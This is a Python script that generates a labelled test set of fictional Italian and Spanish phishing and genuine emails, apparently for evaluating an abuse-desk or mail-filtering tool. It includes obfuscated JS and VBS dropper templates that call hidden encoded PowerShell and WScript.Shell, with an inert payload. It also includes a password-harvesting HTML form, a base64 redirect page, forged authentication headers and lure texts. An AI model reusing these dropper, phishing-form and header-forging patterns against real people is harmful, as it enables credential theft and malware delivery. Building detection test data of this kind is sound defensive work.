"""Blind set 27: Italian and Spanish consumers and small businesses, 2024-2026.

The messages were (fictionally) collected by the abuse desk of Tirrenia Fibra, a
regional ISP with customers in Liguria/Sardinia and in Catalonia/Valencia, from
mailboxes its customers forwarded or exported: consumer accounts at Libero,
Virgilio, Tiscali, Alice/TIM, Gmail, Outlook.com, Movistar/Telefónica and the
ISP's own hosted mail; an Aruba-hosted mailbox and an Aruba PEC box; and the
Microsoft 365 and Google Workspace tenants of a few small firms (an optician in
Genova, a ceramics maker in Sardinia, a haulier in Manresa, a tile distributor
in Castelló).  Languages: Italian, Spanish, Catalan and some English.

Attacks (50): Poste Italiane/PostePay, INPS, Agenzia delle Entrate and
Agenzia Entrate-Riscossione, Intesa Sanpaolo, UniCredit, BPER, Banca Sella,
Nexi, BRT, SDA, Amazon.it, Enel, Telepass/Autostrade, PagoPA, Aruba (domain
renewal, full PEC mailbox), TIM, WindTre; Agencia Tributaria, DGT, Correos,
SEUR, MRW, BBVA, CaixaBank, Santander, Sabadell, ING, Wallapop/Bizum, Endesa,
Naturgy, Movistar, Seguridad Social/cita previa, PayPal; CEO fraud, payroll
diversion and supplier IBAN changes (lookalike and compromised mailboxes, in
reply threads), fatture elettroniche / facturas as HTML attachments, a PEC
transport envelope carrying a dropper, SharePoint/DocuSign/OneDrive lookalikes
and genuine-service abuse (SharePoint, DocuSign, Google Forms, Canva, PayPal
invoices, Brevo), QR codes in bodies and PDFs, callback numbers, an advance-fee
letter, a calendar invite and four malware droppers (ZIP/JS, PEC ZIP/VBS,
ISO/LNK, a link to a ZIP on Dropbox).

Legitimate (25): genuine notifications from the same brands (Poste, INPS,
Agenzia Entrate, Intesa, Amazon.it, Enel, Aruba, Agencia Tributaria, Correos,
BBVA, CaixaBank, Bizum, Endesa, Microsoft, DocuSign), newsletters through
MailUp, Mailchimp and Brevo full of tracking links, a real PEC delivery with a
FatturaPA, supplier invoices with an IBAN, an internal payment request, an IT
notice and personal mail.

Everything is invented (people, firms, lookalike domains, IPs, tokens); brand
names and brand domains are real where a brand is spoofed or really sends.
Run from /work/main:  .venv/bin/python samples/tools/build_blind27_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import os
import re
import sys
import time
import zlib
from datetime import datetime, timedelta
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from html import escape
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

os.environ["TZ"] = "Europe/Rome"  # files.iso_image stamps local time: pin it so runs are byte-identical anywhere
time.tzset()

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind27_manifest.txt"

# --------------------------------------------------------------------------- helpers


def tok(seed: str, n: int = 16, abc: str = "0123456789abcdef") -> str:
    """A deterministic token of ``n`` characters from ``abc``."""
    out, i = "", 0
    while len(out) < n:
        for byte in hashlib.sha256(f"{seed}/{i}".encode()).digest():
            out += abc[byte % len(abc)]
        i += 1
    return out[:n]


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def enc(value: str) -> str:
    """RFC 2047 (UTF-8, B) for non-ASCII header text, folded into encoded words of at most 45 octets."""
    if value.isascii():
        return value
    words, cur = [], ""
    for ch in value:
        if len((cur + ch).encode()) > 45:
            words.append(cur)
            cur = ""
        cur += ch
    words.append(cur)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def addr(display: str, address: str) -> str:
    if not display:
        return address
    if display.isascii():
        quoted = f'"{display}"' if re.search(r'[(),.:;<>@\[\]"]', display) else display
        return f"{quoted} <{address}>"
    return f"{enc(display)} <{address}>"


def fold(name: str, value: str, width: int = 76) -> str:
    """Fold a long base64-ish value (DKIM b=) with tab continuation lines."""
    return "\n\t".join(value[i:i + width] for i in range(0, len(value), width))


def strip_tags(html: str) -> str:
    html = re.sub(r"<br\s*/?>", "\n", html)
    html = re.sub(r"<[^>]+>", "", html)
    return html.replace("&nbsp;", " ").replace("&amp;", "&").replace("&euro;", "€")


# ---- body builders ---------------------------------------------------------------


def plain(body: str, enc_: str = "quoted-printable") -> Leaf:
    return text(body.strip("\n") + "\n", "plain", enc_)


def alt(txt: str, html: str, html_enc: str = "quoted-printable", bnd: str = "") -> Multi:
    return Multi("alternative", bnd or "alt_" + tok(txt[:60], 24),
                 [text(txt.strip("\n") + "\n"), text(html, "html", html_enc)])


def mixed(body, *atts, bnd: str = "") -> Multi:
    return Multi("mixed", bnd or "mix_" + tok(str(len(atts)) + repr(atts[0].params), 24), [body, *atts])


def related(body: Multi, *imgs) -> Multi:
    return Multi("related", "rel_" + tok(repr(imgs[0].extra), 24), [body, *imgs], '\n\ttype="multipart/alternative";')


def ol(body: str, sig: str = "", lang: str = "IT") -> Multi:
    """Outlook desktop / OWA style: text + WordSection HTML."""
    paras = [p for p in (body.strip("\n") + ("\n\n" + sig if sig else "")).split("\n")]
    rows = "\n".join(f'<p class="MsoNormal">{escape(p, False) if p else "<o:p>&nbsp;</o:p>"}<o:p></o:p></p>' for p in paras)
    html = ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">\n'
            '<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}\n'
            '@page WordSection1 {size:612.0pt 792.0pt; margin:70.85pt 2.0cm 2.0cm 2.0cm;}\n'
            'div.WordSection1 {page:WordSection1;}\n--></style>\n</head>\n'
            f'<body lang="{lang}" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n<div class="WordSection1">\n{rows}\n</div>\n</body>\n</html>\n')
    return alt("\n".join(paras), html)


def gm(body: str) -> Multi:
    """Gmail web style: text + <div dir="ltr"> HTML."""
    lines = body.strip("\n").split("\n")
    html = '<div dir="ltr">' + "".join(f"<div>{escape(x, False) if x else '<br>'}</div>" for x in lines) + "</div>\n"
    return alt(body, html, bnd="000000000000" + tok(body[:40], 16))


def brand(color: str, name: str, title: str, paras: list[str], btn=None, foot: str = "",
          lang: str = "it", img_cid: str = "", html_enc: str = "quoted-printable", pre: str = "") -> Multi:
    """A branded transactional/kit e-mail (table layout) with its text alternative."""
    body_html = "".join(f'<p style="margin:0 0 14px 0;font-size:15px;line-height:22px;color:#333333">{p}</p>\n' for p in paras)
    if img_cid:
        body_html += f'<p style="text-align:center"><img src="cid:{img_cid}" width="220" height="220" alt="QR"></p>\n'
    button = ""
    if btn:
        button = (f'<table role="presentation" cellpadding="0" cellspacing="0" align="center"><tr><td bgcolor="{color}" '
                  f'style="border-radius:4px;padding:12px 28px"><a href="{escape(btn[1])}" target="_blank" '
                  f'style="color:#ffffff;font-weight:bold;text-decoration:none;font-size:15px">{btn[0]}</a></td></tr></table>\n')
    preheader = f'<div style="display:none;max-height:0;overflow:hidden">{pre}</div>\n' if pre else ""
    html = (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta charset="utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{title}</title>\n</head>\n'
            f'<body style="margin:0;padding:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif">\n{preheader}'
            '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#f2f2f2"><tr><td align="center">\n'
            '<table role="presentation" width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff">\n'
            f'<tr><td bgcolor="{color}" style="padding:18px 24px;color:#ffffff;font-size:22px;font-weight:bold">{name}</td></tr>\n'
            f'<tr><td style="padding:28px 32px">\n<h1 style="font-size:20px;color:#222222;margin:0 0 18px 0">{title}</h1>\n'
            f'{body_html}{button}</td></tr>\n'
            f'<tr><td style="padding:18px 32px;font-size:11px;line-height:16px;color:#888888;border-top:1px solid #e5e5e5">{foot}</td></tr>\n'
            '</table>\n</td></tr></table>\n</body>\n</html>\n')
    txt = title + "\n\n" + "\n\n".join(strip_tags(p) for p in paras)
    if btn:
        txt += f"\n\n{btn[0]}: {btn[1]}"
    if foot:
        txt += "\n\n--\n" + strip_tags(foot)
    return alt(txt, html, html_enc)


def news(color: str, name: str, intro: str, items: list[tuple[str, str, str]], foot: str,
         lang: str = "it", html_enc: str = "quoted-printable") -> Multi:
    """A newsletter: intro and (heading, blurb, tracked url) items."""
    blocks = "".join(f'<tr><td style="padding:14px 28px"><h2 style="font-size:17px;margin:0 0 6px 0"><a href="{escape(u)}" '
                     f'style="color:{color};text-decoration:none">{h}</a></h2><p style="margin:0;font-size:14px;line-height:20px">{b}</p>'
                     f'</td></tr>\n' for h, b, u in items)
    html = (f'<!DOCTYPE html>\n<html lang="{lang}"><head><meta charset="utf-8"><title>{name}</title></head>\n'
            '<body style="margin:0;background:#eeeeee;font-family:Georgia,serif">\n'
            '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">\n'
            '<table width="620" cellpadding="0" cellspacing="0" bgcolor="#ffffff">\n'
            f'<tr><td style="padding:22px 28px;font-size:26px;color:{color}">{name}</td></tr>\n'
            f'<tr><td style="padding:0 28px 10px 28px;font-size:15px;line-height:22px">{intro}</td></tr>\n{blocks}'
            f'<tr><td style="padding:20px 28px;font-size:11px;color:#777777">{foot}</td></tr>\n'
            '</table></td></tr></table>\n</body></html>\n')
    txt = strip_tags(name) + "\n\n" + strip_tags(intro) + "\n\n" + "\n\n".join(
        f"{strip_tags(h)}\n{strip_tags(b)}\n{u}" for h, b, u in items) + "\n\n--\n" + strip_tags(foot)
    return alt(txt, html, html_enc)


def att(name: str, data: bytes, ctype: str = "application/pdf") -> Leaf:
    return attachment(ctype, name, data)


def pdf(lines: list[str], title: str, link: str | None = None) -> bytes:
    return files.pdf(lines, (link, (56, 420, 300, 460)) if link else None, title)


def pdf_qr(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF with text lines and a QR code image of ``url`` (no clickable link)."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    rows = [list(r) for r in qr.matrix]
    size, scale, border = len(rows), 4, 4
    pix = bytearray()
    full = [[0] * (size + 2 * border) for _ in range(border)]
    grid = full + [[0] * border + r + [0] * border for r in rows] + full
    for r in grid:
        line = bytearray()
        for v in r:
            line += bytes([0 if v else 255]) * scale
        for _ in range(scale):
            pix += line
    side = (size + 2 * border) * scale
    content = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"] + [f"({files._pdf_escape(x)}) Tj T*" for x in lines] + ["ET",
               f"q 200 0 0 200 56 300 cm /Im1 Do Q"]
    objects = files.image_page("\n".join(content).encode("latin-1"), zlib.compress(bytes(pix), 9), side, side, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Producer (iText 7.2.5) "
                   "/CreationDate (D:20250310101500+01'00') >>".encode())
    return files.pdf_file(objects, 7)


def fake_p7s(seed: str) -> bytes:
    """A DER-looking PKCS#7 blob for PEC envelopes (not a valid signature)."""
    body = b"".join(hashlib.sha512(f"{seed}{i}".encode()).digest() for i in range(40))
    return b"\x30\x82" + len(body).to_bytes(2, "big") + b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + body


# ---- headers and assembly -------------------------------------------------------

# receiving side: key -> (MX host, authserv-id, style)
PROV = {
    "libero": ("smtp-in.libero.it", "libero.it", "io"),
    "virgilio": ("smtp-in.virgilio.it", "virgilio.it", "io"),
    "tiscali": ("mx.tiscali.it", "tiscali.it", "pf"),
    "alice": ("smtp-in.alice.it", "alice.it", "pf"),
    "aruba": ("mx.aruba.it", "aruba.it", "pf"),
    "pec": ("mx.pec.aruba.it", "pec.aruba.it", "pf"),
    "tf": ("mx1.tirreniafibra.it", "mx1.tirreniafibra.it", "pf"),
    "movistar": ("mx.movistar.es", "movistar.es", "pf"),
    "gmail": ("mx.google.com", "mx.google.com", "google"),
    "gws": ("mx.google.com", "mx.google.com", "google"),
    "outlook": ("AM4PEPF00027A68.eurprd04.prod.outlook.com", "", "ms"),
    "m365": ("DB1PEPF000509E8.eurprd03.prod.outlook.com", "", "ms"),
}

POLICY = {  # DMARC policies of the domains that appear in From
    "posteitaliane.it": "p=REJECT sp=REJECT", "inps.it": "p=QUARANTINE sp=QUARANTINE", "aruba.it": "p=REJECT sp=REJECT",
    "agenziaentrate.it": "p=REJECT sp=REJECT", "amazon.it": "p=QUARANTINE sp=QUARANTINE", "dgt.es": "p=NONE sp=NONE",
    "movistar.es": "p=REJECT sp=REJECT", "gmail.com": "p=NONE sp=QUARANTINE", "outlook.com": "p=NONE sp=QUARANTINE",
    "outlook.it": "p=NONE sp=QUARANTINE", "hotmail.com": "p=NONE sp=QUARANTINE", "intesasanpaolo.com": "p=REJECT sp=REJECT",
    "bbva.es": "p=REJECT sp=REJECT", "caixabank.com": "p=REJECT sp=REJECT", "correos.es": "p=REJECT sp=REJECT",
    "endesa.es": "p=REJECT sp=REJECT", "enel.it": "p=REJECT sp=REJECT", "docusign.net": "p=REJECT sp=REJECT",
    "paypal.com": "p=REJECT sp=REJECT", "microsoft.com": "p=REJECT sp=REJECT", "google.com": "p=REJECT sp=REJECT",
    "sharepointonline.com": "p=REJECT sp=REJECT", "canva.com": "p=REJECT sp=REJECT", "libero.it": "p=NONE sp=NONE",
    "agenciatributaria.gob.es": "p=REJECT sp=REJECT", "bizum.es": "p=REJECT sp=REJECT", "pec.aruba.it": "p=NONE sp=NONE",
    "accountprotection.microsoft.com": "p=REJECT sp=REJECT", "notifiche.poste.it": "p=REJECT sp=REJECT",
}


def dom(address: str) -> str:
    return address.rsplit("@", 1)[1].lower()


def spf_why(spf: str, rp: str, ip: str) -> str:
    return {"pass": f"domain of {rp} designates {ip} as permitted sender",
            "fail": f"domain of {rp} does not designate {ip} as permitted sender",
            "softfail": f"domain of transitioning {rp} does not designate {ip} as permitted sender",
            "neutral": f"{ip} is neither permitted nor denied by best guess record for domain of {rp}",
            "none": f"{dom(rp)} does not designate permitted sender hosts"}[spf]


def auth_results(m: dict, style: str, authserv: str) -> str:
    spf, dkim, dmarc = m["auth"].split()
    rp, ip, frm = m["rp"], m["ip"], dom(m["frm"][1])
    dkd, sel = m.get("dkd", frm), m.get("sel", "s1")
    pol = m.get("pol", POLICY.get(frm, "p=NONE sp=NONE"))
    bval = tok(m["slug"] + "b", 8, ALNUM)
    if style == "google":
        why = spf_why(spf, rp, ip)
        parts = []
        if dkim != "none":
            parts.append(f"dkim={dkim} header.i=@{dkd} header.s={sel} header.b={bval}")
        if "dkd2" in m:
            parts.append(f"dkim=pass header.i=@{m['dkd2']} header.s={m.get('sel2', 's1')} header.b={tok(m['slug'] + 'b2', 8, ALNUM)}")
        parts.append(f"spf={spf} (google.com: {why}) smtp.mailfrom={rp}")
        if dmarc != "none":
            dis = "NONE" if dmarc == "pass" or "NONE" in pol.split()[0] else pol.split()[0][2:]
            parts.append(f"dmarc={dmarc} ({pol} dis={dis}) header.from={frm}")
        return "Authentication-Results: mx.google.com;\n       " + ";\n       ".join(parts)
    if style == "ms":
        dk = {"pass": f"dkim=pass (signature was verified)\n header.d={dkd}", "fail": f"dkim=fail (body hash did not verify)\n header.d={dkd}",
              "none": "dkim=none (message not signed)\n header.d=none"}[dkim]
        if dmarc == "pass":
            dm, comp = "dmarc=pass action=none", "compauth=pass\n reason=100"
        elif dmarc == "fail":
            act = "oreject" if "REJECT" in pol.split()[0] else ("quarantine" if "QUAR" in pol.split()[0] else "none")
            dm, comp = f"dmarc=fail action={act}", "compauth=fail\n reason=000"
        else:
            ok = spf == "pass" or dkim == "pass"
            dm = "dmarc=bestguesspass action=none" if ok else "dmarc=none action=none"
            comp = "compauth=pass\n reason=109" if ok else "compauth=softpass\n reason=201"
        return (f"Authentication-Results: spf={spf} (sender IP is {ip})\n smtp.mailfrom={dom(rp)}; {dk};{dm}\n"
                f" header.from={frm};{comp}")
    parts = [f"spf={spf} smtp.mailfrom={rp}"]
    parts.append(f"dkim={dkim} header.d={dkd} header.s={sel} header.b={bval}" if dkim != "none" else "dkim=none")
    if "dkd2" in m:
        parts.append(f"dkim=pass header.d={m['dkd2']} header.s={m.get('sel2', 's1')}")
    if dmarc != "none":
        parts.append(f"dmarc={dmarc} ({pol.split()[0].lower()} dis={'none' if dmarc == 'pass' else 'quarantine'}) header.from={frm}")
    else:
        parts.append(f"dmarc=none header.from={frm}")
    return f"Authentication-Results: {authserv};\n\t" + ";\n\t".join(parts)


def dkim_sig(m: dict, d: str, sel: str, when: datetime, body: bytes, salt: str = "") -> str:
    bh = base64.b64encode(hashlib.sha256(body).digest()).decode()
    b = base64.b64encode(b"".join(hashlib.sha512(f"{m['slug']}{d}{salt}{i}".encode()).digest() for i in range(4))).decode()[:344]
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={sel}; t={int(when.timestamp())}; bh={bh};\n"
            f"\th=From:To:Subject:Date:Message-ID:MIME-Version:Content-Type;\n\tb={fold('b', b, 70)}")


def received(style: str, mx: str, helo: str, rdns: str, ip: str, to: str, when: datetime, seed: str) -> str:
    ts = format_datetime(when)
    if style == "google":
        return (f"Received: from {helo} ({rdns} [{ip}])\n        by mx.google.com with ESMTPS id "
                f"{tok(seed, 10, 'abcdef0123456789')}-{tok(seed + 'x', 8, 'abcdef0123456789')}si{tok(seed, 7, '0123456789')}"
                f".{int(tok(seed, 3, '0123456789')) % 200}.{when:%Y.%m.%d.%H.%M.%S}\n"
                f"        for <{to}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {ts}")
    if style == "ms":
        return (f"Received: from {helo} ({ip}) by\n {mx} (2603:10a6:20b:{tok(seed, 3)}::{tok(seed + 'y', 2)}) with Microsoft\n"
                f" SMTP Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.8632.13\n via Frontend Transport; {ts}")
    if style == "io":
        return f"Received: from {helo} ({rdns} [{ip}])\n\tby {mx} with ESMTPS\n\tid {tok(seed, 14, UPNUM)}\n\tfor <{to}>; {ts}"
    return (f"Received: from {helo} ({rdns} [{ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n"
            f"\tby {mx} (Postfix) with ESMTPS id 4{tok(seed, 11, UPNUM)}\n\tfor <{to}>; {ts}")


def build(m: dict) -> bytes:
    mx, authserv, style = PROV[m["rc"]]
    when = datetime.fromisoformat(m["date"])
    m.setdefault("rp", m["frm"][1])
    to = m["to"] if isinstance(m["to"], str) else m["to"][1]
    body = m["body"]
    rendered = message("X: y", body)
    body_bytes = rendered.split(b"\n\n", 1)[1]
    helo = m.get("helo", "mail." + dom(m["rp"]))
    lines = [f"Return-Path: <{m['rp']}>"]
    if style == "google":
        lines.append(f"Delivered-To: {to}")
    lines.append(received(style, mx, helo, m.get("rdns", helo), m["ip"], to, when + timedelta(seconds=3 + len(m["slug"]) % 9), m["slug"]))
    if style == "google":
        spf = m["auth"].split()[0]
        lines.append(f"Received-SPF: {spf} (google.com: {spf_why(spf, m['rp'], m['ip'])})\n client-ip={m['ip']};")
    lines.append(auth_results(m, style, authserv))
    for hop in m.get("hops", []):  # (helo, ip, by) inner hops, newest first
        lines.append(f"Received: from {hop[0]} ([{hop[1]}])\n\tby {hop[2]} with ESMTPSA id {tok(m['slug'] + hop[1], 10, UPNUM)};"
                     f"\n\t{format_datetime(when + timedelta(seconds=1))}")
    spf, dkim, dmarc = m["auth"].split()
    if dkim in ("pass", "fail"):
        lines.append(dkim_sig(m, m.get("dkd", dom(m["frm"][1])), m.get("sel", "s1"), when, body_bytes))
    if "dkd2" in m:
        lines.append(dkim_sig(m, m["dkd2"], m.get("sel2", "s1"), when, body_bytes, "2"))
    lines.append(f"From: {addr(*m['frm'])}")
    lines.append(f"To: {m['to'] if isinstance(m['to'], str) else addr(*m['to'])}")
    lines.extend(m.get("pre", []))
    lines.append(f"Subject: {enc(m['subj'])}")
    lines.append(f"Date: {format_datetime(when)}")
    lines.append(f"Message-ID: {m.get('mid') or '<' + tok(m['slug'] + 'mid', 24) + '@' + dom(m['frm'][1]) + '>'}")
    lines.extend(m.get("hdr", []))
    lines.append("MIME-Version: 1.0")
    return message("\n".join(lines), body)


def check(raw: bytes, name: str) -> None:
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    for part in msg.walk():
        assert not part.defects, (name, part.get_content_type(), part.defects)
        for key, value in part.items():
            assert not getattr(value, "defects", None), (name, key, value.defects)
    for key in ("From", "To", "Subject", "Date", "Message-ID", "Received", "Authentication-Results", "Return-Path"):
        assert msg[key], (name, key)


# ---- payload files (inert) ---------------------------------------------------------

PS_ENC = base64.b64encode("Write-Output 'blind27 inert sample'".encode("utf-16-le")).decode()


def js_dropper(url: str) -> bytes:
    return ("// documento generato automaticamente\n"
            "var _0x3a1f=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','Run','MSXML2.XMLHTTP',"
            f"'{url}','powershell -nop -w hidden -enc {PS_ENC}'];\n"
            "function _0x5c2e(i){return _0x3a1f[i];}\n"
            "try{var h=new ActiveXObject(_0x5c2e(2));h.open('GET',_0x5c2e(3),false);h.send();}catch(e){}\n"
            "var s=new ActiveXObject(_0x5c2e(0));s[_0x5c2e(1)](_0x5c2e(4),0,false);\n").encode()


def vbs_dropper(url: str) -> bytes:
    return ("' Fattura elettronica - visualizzatore\r\n"
            "Dim o, u\r\nSet o = CreateObject(\"WScript.Shell\")\r\n"
            f"u = \"{url}\"\r\n"
            f"o.Run \"powershell -nop -w hidden -enc {PS_ENC}\", 0, False\r\n"
            "WScript.Sleep 3000\r\n").encode()


def lnk_dropper() -> bytes:
    return files.lnk_shortcut("C:\\Windows\\System32\\cmd.exe",
                              f"/c start /min powershell -nop -w hidden -enc {PS_ENC} & start Factura.pdf")


def html_form(title: str, color: str, action: str, fields: list[str], intro: str, lang: str = "it") -> bytes:
    inputs = "\n".join(f'<label>{f}</label><input type="{"password" if "PIN" in f or "Clave" in f or "CVV" in f else "text"}" '
                       f'name="f{i}" required>' for i, f in enumerate(fields))
    return (f'<!DOCTYPE html>\n<html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
            f'<style>body{{font-family:Arial;background:#f4f4f4}}.box{{max-width:440px;margin:40px auto;background:#fff;padding:26px;'
            f'border-top:6px solid {color}}}label{{display:block;margin-top:12px;font-size:13px}}input{{width:100%;padding:8px}}'
            f'button{{margin-top:18px;background:{color};color:#fff;border:0;padding:11px 24px}}</style></head>\n'
            f'<body><div class="box"><h2>{title}</h2><p>{intro}</p>\n<form method="POST" action="{action}">\n{inputs}\n'
            f'<button type="submit">{"Invia" if lang == "it" else "Enviar"}</button></form></div></body></html>\n').encode()


def html_redirect(target_b64: str, email: str, label: str) -> bytes:
    return ('<html><head><meta charset="utf-8"><title>Documento</title></head>\n<body>\n'
            f'<p style="font-family:Segoe UI,Arial;color:#555">{label}</p>\n'
            f'<script>\nvar em="{email}";\nvar t=atob("{target_b64}");\n'
            'setTimeout(function(){window.location.replace(t+"#"+btoa(em));},800);\n</script>\n</body></html>\n').encode()


def pec_envelope(sender: str, rcpt: str, subj: str, when: datetime, inner: bytes, gestore: str, ident: str,
                 inner_mid: str) -> Multi:
    """A PEC transport envelope: signed multipart with the notice, daticert.xml and postacert.eml."""
    day, hour = when.strftime("%d/%m/%Y"), when.strftime("%H:%M:%S")
    notice = (f"Messaggio di posta certificata\n\nIl giorno {day} alle ore {hour} ({when:%z}) il messaggio\n\"{subj}\" è stato "
              f"inviato da \"{sender}\"\nindirizzato a:\n{rcpt}\nIl messaggio originale è incluso in allegato.\n"
              f"Identificativo messaggio: {ident}\n")
    html = ("<html><body><p><b>Messaggio di posta certificata</b></p>\n<p>" + escape(notice.split("\n\n", 1)[1]).replace("\n", "<br>\n")
            + "</p></body></html>\n")
    daticert = ('<?xml version="1.0" encoding="UTF-8"?>\n<postacert tipo="posta-certificata" errore="nessuno">\n<intestazione>\n'
                f'<mittente>{sender}</mittente>\n<destinatari tipo="certificato">{rcpt}</destinatari>\n<risposte>{sender}</risposte>\n'
                f'<oggetto>{escape(subj)}</oggetto>\n</intestazione>\n<dati>\n<gestore-emittente>{gestore}</gestore-emittente>\n'
                f'<data zona="{when:%z}">\n<giorno>{day}</giorno>\n<ora>{hour}</ora>\n</data>\n'
                f'<identificativo>{ident}</identificativo>\n<msgid>{escape(inner_mid)}</msgid>\n</dati>\n</postacert>\n').encode()
    body = Multi("mixed", "----=_PEC_mixed_" + tok(ident, 18), [
        alt(notice, html, bnd="----=_PEC_alt_" + tok(ident + "a", 18)),
        attachment("application/xml", "daticert.xml", daticert),
        Leaf("message/rfc822", inner, "7bit", '; name="postacert.eml"', 'attachment; filename="postacert.eml"'),
    ])
    sig = attachment("application/x-pkcs7-signature", "smime.p7s", fake_p7s(ident))
    return Multi("signed", "----=_PEC_sig_" + tok(ident + "s", 18), [body, sig],
                 ' protocol="application/x-pkcs7-signature"; micalg="sha-256";')


def inner_message(frm: str, to: str, subj: str, when: datetime, mid: str, body, extra: str = "") -> bytes:
    head = (f"Return-Path: <{frm}>\nFrom: {frm}\nTo: {to}\nSubject: {enc(subj)}\nDate: {format_datetime(when)}\n"
            f"Message-ID: {mid}\n{extra}")
    return message(head, body)


def ics_invite(uid: str, org: str, att_: str, start: str, end: str, summary: str, desc: str, loc: str) -> bytes:
    desc = desc.replace("\n", "\\n")
    lines = ["BEGIN:VCALENDAR", "METHOD:REQUEST", "PRODID:Microsoft Exchange Server 2010", "VERSION:2.0",
             "BEGIN:VEVENT", f"ORGANIZER;CN=Facturacion:mailto:{org}", f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{att_}",
             f"DESCRIPTION;LANGUAGE=es-ES:{desc}", f"UID:{uid}", f"SUMMARY;LANGUAGE=es-ES:{summary}",
             f"DTSTART;TZID=Romance Standard Time:{start}", f"DTEND;TZID=Romance Standard Time:{end}",
             "CLASS:PUBLIC", "PRIORITY:5", "DTSTAMP:20250922T071500Z", "SEQUENCE:0", f"LOCATION;LANGUAGE=es-ES:{loc}",
             "STATUS:CONFIRMED", "END:VEVENT", "END:VCALENDAR"]
    out = []
    for line in lines:  # fold at 74 octets
        while len(line.encode()) > 74:
            cut = 74
            while len(line[:cut].encode()) > 74:
                cut -= 1
            out.append(line[:cut])
            line = " " + line[cut:]
        out.append(line)
    return ("\r\n".join(out) + "\r\n").encode()


# --------------------------------------------------------------------------- messages

MSGS: list[dict] = []

# ---- attacks, Italy

POSTE_FOOT = "© Poste Italiane S.p.A. 2025 – Partita IVA 01114601006 – Viale Europa 190, 00144 Roma"

MSGS += [
    dict(slug="it-postepay-lookalike", cat="phishing", rc="libero", date="2025-02-11T08:41:07+01:00",
         frm=("Poste Italiane", "avvisi@poste-verificaid.com"), to="marco.ferrando@libero.it", rp="bounce-2211@poste-verificaid.com",
         helo="mail.poste-verificaid.com", ip="91.215.85.47", auth="pass pass pass", sel="pv1",
         subj="PostePay Evolution: la tua carta è stata temporaneamente sospesa",
         hdr=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
         body=brand("#1f3f91", "Poste Italiane", "Verifica richiesta sulla tua carta PostePay", [
             "Gentile Cliente,",
             "a seguito dell'aggiornamento della normativa europea PSD2 non è stato possibile confermare i dati associati alla tua "
             "carta <b>PostePay Evolution</b>. Per la tua sicurezza la carta è stata temporaneamente sospesa.",
             "Per riattivarla è sufficiente completare la verifica dell'identità entro <b>24 ore</b>. Trascorso tale termine la carta "
             "verrà bloccata definitivamente e il saldo sarà trasferito su un conto di deposito vincolato."],
             ("Verifica ora", "https://postepay-verifica-id.pages.dev/accesso/?cliente=MF" + tok("a1", 10, UPNUM) + "&ref=PP-EVO"),
             POSTE_FOOT, pre="Azione richiesta sulla tua carta"),
         desc="PostePay suspension lure from a lookalike domain that passes its own SPF/DKIM/DMARC, linking to a Cloudflare pages.dev credential and card kit."),

    dict(slug="it-poste-callback-gmail", cat="phishing", rc="virgilio", date="2025-03-04T19:22:51+01:00",
         frm=("Poste Italiane - Ufficio Sicurezza", "sicurezza.posteitaliane.assist@gmail.com"),
         to="rosanna.deiana@virgilio.it", helo="mail-wr1-f47.google.com", ip="209.85.221.47", auth="pass pass pass",
         dkd="gmail.com", sel="20230601", mid="<CAH7x0wPqT3kL9vZ2_mE8rYfN1sJ4uB6cD0aQ@mail.gmail.com>",
         subj="Avviso: tentativo di accesso al tuo conto BancoPosta",
         body=gm("Gentile titolare,\n\nil nostro sistema antifrode ha rilevato un tentativo di accesso al tuo conto BancoPosta da un "
                 "dispositivo Android non riconosciuto (Napoli, IP 151.38.xx.xx) e una richiesta di bonifico di 1.980,00 euro.\n\n"
                 "L'operazione è stata sospesa in via cautelativa. Se NON sei stato tu, contatta subito un nostro operatore del "
                 "Servizio Sicurezza al numero 02 8088 4417 (attivo 24 ore su 24) indicando il codice pratica PI-7741-2025.\n\n"
                 "Se non ci contatti entro oggi il bonifico verrà eseguito automaticamente.\n\n"
                 "Non rispondere a questa email, la casella non è presidiata.\n\nPoste Italiane\nServizio Sicurezza Conti"),
         desc="Callback scam: Poste Italiane security team display name on a Gmail account, no link, urging the victim to phone a fake antifraud number about a pending transfer."),

